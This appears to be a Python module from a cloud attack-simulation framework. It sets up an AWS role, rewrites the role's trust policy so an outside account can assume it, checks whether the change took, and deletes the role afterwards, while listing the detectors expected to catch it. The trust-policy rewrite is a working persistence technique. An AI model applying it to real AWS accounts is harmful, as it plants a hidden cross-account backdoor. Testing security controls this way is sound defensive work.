"""Add an account of one's own to the trust policy of a role that exists: no new identity, no new key."""

from bastide.attack.stage import Stage, policy
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A role's trust policy lets in a stranger",
    mitre=("T1098.003", "T1199"),
    tactic="persistence",
    detectors=("IAM Access Analyzer: external access to a role", "GuardDuty Persistence:IAMUser/AnomalousBehavior"),
    expected=Prevented("permission-boundary"),
    source="IAM API Reference, UpdateAssumeRolePolicy",
)


def prepare(stage: Stage) -> Scene:
    """A role of the account's own."""
    return {"role": stage.role("reports", allows="s3:ListAllMyBuckets")}


def attack(stage: Stage, scene: Scene) -> None:
    """Trust the stranger's account, too."""
    trusts = {"AWS": [f"arn:aws:iam::{one}:root" for one in (stage.victim, stage.outsider)]}
    stage.attacker().client("iam").update_assume_role_policy(
        RoleName=scene["role"].rpartition("/")[2],
        PolicyDocument=policy({"Effect": "Allow", "Principal": trusts, "Action": "sts:AssumeRole"}),
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The trust policy names the stranger's account."""
    found = stage.owner().client("iam").get_role(RoleName=scene["role"].rpartition("/")[2])["Role"]
    return stage.outsider in str(found["AssumeRolePolicyDocument"])


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the role."""
    stage.drop_role(scene["role"])
